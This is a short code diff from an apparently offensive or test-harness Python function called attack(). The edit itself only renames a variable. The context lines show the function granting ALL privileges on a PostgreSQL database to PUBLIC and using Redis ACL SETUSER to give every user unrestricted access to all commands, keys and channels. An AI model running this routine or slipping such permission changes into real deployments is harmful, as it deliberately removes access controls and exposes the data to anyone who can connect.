@@ -24,7 +24,7 @@ def attack() -> None:
         surface.sql(f'GRANT ALL ON DATABASE "{database}" TO PUBLIC')
     redis = surface.redis()
     if redis:
-        code, out = run(redis + ["ACL", "LIST"])
+        _code, out = run(redis + ["ACL", "LIST"])
         users = [line.split()[1] for line in out.splitlines() if line.startswith("user ")]
         for user in users or ["default"]:
             run(redis + ["ACL", "SETUSER", user, "on", "+@all", "~*", "&*"])
